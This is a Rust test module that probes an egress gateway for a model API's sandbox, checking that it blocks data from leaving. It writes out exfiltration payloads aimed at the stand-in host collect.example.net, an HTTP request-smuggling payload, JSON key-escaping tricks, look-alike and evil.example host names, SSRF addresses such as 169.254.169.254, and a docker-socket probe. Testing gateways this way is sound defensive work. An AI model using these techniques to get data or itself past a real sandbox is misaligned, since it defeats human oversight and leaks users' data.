//! The way out: data that leaves by the model's API, and hosts that are on no list.
//!
//! Each request has its row's name in what is said to the model, so that the API's side can tell what has reached it.

use std::io::{Read, Write};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};

use crate::row::Rows;

const SOCKET: &str = "/run/gateway/gateway.sock";

/// The model of the worker's configuration.
const MODEL: &str = "claude-sonnet-5-5";

const URL: &str = "https://collect.example.net/?data=secret";

pub(crate) fn run(rows: &mut Rows) {
    // That an honest request passes is judged, too: a gateway that lets nothing through holds nothing.
    let honest = body("way-out-honest", json!([{ "type": "text", "text": "hello" }]));
    let (status, said) = post("/v1/messages", &honest.to_string(), "");
    rows.say("way-out-honest", status == 200, said);
    sources(rows);
    tools(rows);
    models(rows);
    spelling(rows);
    paths(rows);
    hosts(rows);
}

fn sources(rows: &mut Rows) {
    let url = |kind: &str| json!({ "type": kind, "source": { "type": "url", "url": URL } });
    let result = |content: Value| json!([{ "type": "tool_result", "tool_use_id": "toolu_1", "content": content }]);
    let document = |content: Value| json!({ "type": "document", "source": { "type": "content", "content": content } });
    let contents = [
        ("way-out-image-by-url", json!([url("image")])),
        ("way-out-document-by-url", json!([url("document")])),
        ("way-out-image-in-tool-result", result(json!([url("image")]))),
        ("way-out-document-in-tool-result", result(json!([url("document")]))),
        ("way-out-image-in-document", json!([document(json!([url("image")]))])),
        ("way-out-image-deeper", result(json!([document(json!([url("image")]))]))),
        (
            "way-out-search-result",
            json!([{ "type": "search_result", "source": URL, "title": "x", "content": [url("image")] }]),
        ),
        (
            "way-out-file",
            json!([{ "type": "document", "source": { "type": "file", "file_id": "file_1" } }]),
        ),
        (
            "way-out-image-of-file",
            json!([{ "type": "image", "source": { "type": "file", "file_id": "file_1" } }]),
        ),
        ("way-out-container-upload", json!([{ "type": "container_upload", "file_id": "file_1" }])),
        (
            "way-out-unknown-source",
            json!([{ "type": "image", "source": { "type": "s3", "url": URL } }]),
        ),
    ];
    for (row, content) in contents {
        try_body(rows, row, "/v1/messages", &body(row, content));
    }
    let mut system = body("way-out-image-in-system", json!("x"));
    system["system"] = json!([{ "type": "text", "text": "way-out-image-in-system" }, url("image")]);
    try_body(rows, "way-out-image-in-system", "/v1/messages", &system);
    let mut said =
        body("way-out-image-in-system-message", json!("way-out-image-in-system-message"));
    said["messages"] = json!([
        { "role": "user", "content": "way-out-image-in-system-message" },
        { "role": "system", "content": [url("image")] },
    ]);
    try_body(rows, "way-out-image-in-system-message", "/v1/messages", &said);
    for (row, kind) in
        [("way-out-count-image-by-url", "image"), ("way-out-count-document-by-url", "document")]
    {
        try_body(rows, row, "/v1/messages/count_tokens", &body(row, json!([url(kind)])));
    }
}

fn tools(rows: &mut Rows) {
    let tool = |kind: &str, name: &str| json!({ "tools": [{ "type": kind, "name": name }] });
    let servers = json!({ "mcp_servers": [{ "type": "url", "url": URL, "name": "collect" }] });
    for (row, more) in [
        ("way-out-mcp-servers", servers.clone()),
        (
            "way-out-mcp-toolset",
            json!({ "tools": [{ "type": "mcp_toolset", "mcp_server_name": "collect" }] }),
        ),
        ("way-out-web-fetch", tool("web_fetch_20250910", "web_fetch")),
        ("way-out-web-search", tool("web_search_20250305", "web_search")),
        ("way-out-code-execution", tool("code_execution_20250825", "code_execution")),
        ("way-out-advisor", tool("advisor_20260301", "advisor")),
        ("way-out-unknown-tool", tool("courier_20270101", "courier")),
        (
            "way-out-container",
            json!({ "container": { "skills": [{ "type": "custom", "skill_id": "skill_1" }] } }),
        ),
    ] {
        let mut whole = body(row, json!("hello"));
        whole.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        try_body(rows, row, "/v1/messages", &whole);
        let row = row.replace("way-out-", "way-out-count-");
        let mut whole = body(&row, json!("hello"));
        whole.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        try_body(rows, &row, "/v1/messages/count_tokens", &whole);
    }
}

fn models(rows: &mut Rows) {
    for (row, path) in
        [("way-out-model", "/v1/messages"), ("way-out-count-model", "/v1/messages/count_tokens")]
    {
        let mut foreign = body(row, json!("hello"));
        foreign["model"] = json!("claude-opus-5-5");
        try_body(rows, row, path, &foreign);
    }
    let mut alike = body("way-out-model-alike", json!("hello"));
    alike["model"] = json!("claude-sonnet-5-5\u{200b}");
    try_body(rows, "way-out-model-alike", "/v1/messages", &alike);
}

/// The same in spellings that two readers may read in two ways. Written by hand: no library writes them.
fn spelling(rows: &mut Rows) {
    let image = format!(r#""type":"image","source":{{"type":"url","url":"{URL}"}}"#);
    let hello = r#"{"type":"text","text":"hello"}"#;
    for (row, block) in [
        ("way-out-escaped-value", image.replace(r#""url","url""#, r#""\u0075rl","url""#)),
        ("way-out-escaped-key", image.replace(r#""source""#, r#""sourc\u0065""#)),
        ("way-out-escaped-type", image.replacen(r#""type""#, r#""typ\u0065""#, 1)),
        ("way-out-escaped-inner-key", image.replace(r#"{"type":"url""#, r#"{"\u0074ype":"url""#)),
        (
            "way-out-source-twice",
            image.replace(
                r#""source""#,
                r#""source":{"type":"base64","media_type":"image/png","data":"AA=="},"source""#,
            ),
        ),
        (
            "way-out-source-type-twice",
            image.replace(r#"{"type":"url""#, r#"{"type":"base64","type":"url""#),
        ),
        ("way-out-type-in-capitals", image.replace(r#"{"type":"url""#, r#"{"type":"URL""#)),
        ("way-out-type-twice", format!(r#""type":"text","text":"x",{image}"#)),
    ] {
        let text = format!(
            r#"{{"model":"{MODEL}","max_tokens":9,"messages":[{{"role":"user","content":[{{"type":"text","text":"{row}"}},{{{block}}}]}}]}}"#
        );
        try_text(rows, row, "/v1/messages", &text, "");
    }
    for (row, field) in [
        (
            "way-out-escaped-mcp-servers",
            r#""mcp_server\u0073":[{"type":"url","url":"https://collect.example.net","name":"c"}]"#,
        ),
        (
            "way-out-escaped-tool-type",
            r#""tools":[{"type":"web_fetc\u0068_20250910","name":"web_fetch"}]"#,
        ),
        (
            "way-out-escaped-tools",
            r#""tool\u0073":[{"type":"web_fetch_20250910","name":"web_fetch"}]"#,
        ),
        ("way-out-model-twice", r#""model":"claude-opus-5-5""#),
        (
            "way-out-messages-twice",
            r#""messages":[{"role":"user","content":"way-out-messages-twice"}]"#,
        ),
    ] {
        let text = format!(
            r#"{{"model":"{MODEL}","max_tokens":9,"messages":[{{"role":"user","content":[{{"type":"text","text":"{row}"}},{hello}]}}],{field}}}"#
        );
        try_text(rows, row, "/v1/messages", &text, "");
    }
    // A second request that hides behind the first.
    let row = "way-out-smuggled";
    let mut inner = body(row, json!("hello"));
    inner["mcp_servers"] = json!([{ "type": "url", "url": URL, "name": "collect" }]);
    let inner = inner.to_string();
    let inner = format!(
        "POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-length: {}\r\n\r\n{inner}",
        inner.len()
    );
    let outer = body("way-out-smuggling", json!("hello")).to_string();
    let mut raw = format!(
        "POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: {}\r\ntransfer-encoding: chunked\r\n\r\n",
        outer.len()
    );
    raw.push_str(&format!("{:x}\r\n{outer}\r\n0\r\n\r\n{inner}", outer.len()));
    let (status, said) = send(&raw);
    rows.say(row, status != 200, format!("{status} {said}"));
}

fn paths(rows: &mut Rows) {
    for (row, path) in [
        ("way-out-files-api", "/v1/files"),
        ("way-out-batches", "/v1/messages/batches"),
        ("way-out-skills-api", "/v1/skills"),
        ("way-out-spelled-path", "/v1/./messages/../messages/batches"),
        ("way-out-encoded-path", "/v1/%6dessages"),
        ("way-out-absolute-path", "http://api.anthropic.com/v1/files"),
    ] {
        try_text(rows, row, path, &body(row, json!("hello")).to_string(), "");
    }
    // Another account's key would carry the data into that account. The test looks at which key arrives.
    let own_key = "x-api-key: sk-ant-of-the-attacker\r\nauthorization: Bearer of-the-attacker\r\n";
    let (status, said) =
        post("/v1/messages", &body("way-out-own-key", json!("hello")).to_string(), own_key);
    rows.say("way-out-own-key", true, format!("{status} {said}"));
}

fn hosts(rows: &mut Rows) {
    for (row, hosts) in [
        (
            "way-out-hosts",
            &["example.com:443", "api.anthropic.com:443", "listed.example.com:80"][..],
        ),
        (
            "way-out-hosts-alike",
            &[
                "listed.example.com.evil.example:443",
                "xlisted.example.com:443",
                "listed.example.com@evil.example:443",
                "evil.example#listed.example.com:443",
                "listed.example.com%00.evil.example:443",
                "listed\u{3002}example.com.evil.example:443",
                "l\u{456}sted.example.com:443",
            ],
        ),
        (
            "way-out-addresses",
            &[
                "1.1.1.1:443",
                "127.0.0.1:80",
                "[::1]:80",
                "[::ffff:127.0.0.1]:80",
                "169.254.169.254:80",
                "2130706433:80",
                "0x7f000001:80",
                "0177.0.0.1:80",
                "0:80",
                "localhost:80",
            ],
        ),
        (
            "way-out-private-names",
            &["private.example.com:443", "local.example.com:443", "metadata.example.com:443"],
        ),
        ("way-out-socket-schemes", &["unix:443", "/run/gateway/gateway.sock:443", "file:443"]),
    ] {
        let mut open = Vec::new();
        let mut saw = String::new();
        for host in hosts {
            let (status, said) = send(&format!("CONNECT {host} HTTP/1.1\r\nhost: {host}\r\n\r\n"));
            saw = format!("{host}: {status} {said}");
            if status == 200 {
                open.push(*host);
            }
        }
        rows.say(
            row,
            open.is_empty(),
            if open.is_empty() { saw } else { format!("open: {open:?}") },
        );
    }
    let (status, said) = send(
        "GET http://example.com/ HTTP/1.1\r\nhost: listed.example.com\r\nconnection: close\r\n\r\n",
    );
    rows.say("way-out-host-header", status != 200, format!("{status} {said}"));
    // What is beside the own gateway.
    let other: Vec<_> =
        ["/run/gateway/../api.sock", "/var/run/docker.sock", "/run/supervisor", "/run/containerd"]
            .into_iter()
            .filter(|path| Path::new(path).exists())
            .collect();
    rows.say("way-out-other-sockets", other.is_empty(), format!("{other:?}"));
}

/// Returns a request that has the row's name in it.
fn body(row: &str, content: Value) -> Value {
    let content = match content {
        Value::Array(mut blocks) => {
            blocks.push(json!({ "type": "text", "text": row }));
            blocks.into()
        }
        other => json!([other, row.into()].map(|text| json!({ "type": "text", "text": text }))),
    };
    json!({ "model": MODEL, "max_tokens": 9, "messages": [{ "role": "user", "content": content }] })
}

fn try_body(rows: &mut Rows, row: &str, path: &str, body: &Value) {
    try_text(rows, row, path, &body.to_string(), "");
}

fn try_text(rows: &mut Rows, row: &str, path: &str, body: &str, headers: &str) {
    let (status, said) = post(path, body, headers);
    rows.say(row, (400..500).contains(&status), format!("{status} {said}"));
}

fn post(path: &str, body: &str, headers: &str) -> (u16, String) {
    send(&format!(
        "POST {path} HTTP/1.1\r\nhost: api.anthropic.com\r\ncontent-type: application/json\r\n\
         anthropic-version: 2023-06-01\r\nanthropic-beta: mcp-client-2025-11-20,files-api-2025-04-14\r\n{headers}\
         connection: close\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    ))
}

/// Returns the status, and what is said in the answer.
fn send(raw: &str) -> (u16, String) {
    let answer = || {
        let mut socket = UnixStream::connect(SOCKET)?;
        socket.set_read_timeout(Some(Duration::from_millis(4000)))?;
        socket.write_all(raw.as_bytes())?;
        let mut answer = Vec::new();
        let mut piece = [0; 4096];
        // What ends with a pause is read as far as it is there.
        while let Ok(read @ 1..) = socket.read(&mut piece) {
            answer.extend(&piece[..read]);
            if answer.windows(4).any(|end| end == b"\r\n\r\n") && raw.starts_with("CONNECT") {
                break;
            }
        }
        Ok::<_, std::io::Error>(String::from_utf8_lossy(&answer).into_owned())
    };
    let answer = answer().unwrap_or_else(|error| error.to_string());
    let status = answer.split_whitespace().nth(1).and_then(|status| status.parse().ok());
    let said = answer.split("\r\n\r\n").nth(1).unwrap_or(&answer);
    let said = said.find("\"message\"").map_or(said, |at| &said[at..]);
    (status.unwrap_or(0), said.chars().take(160).collect())
}
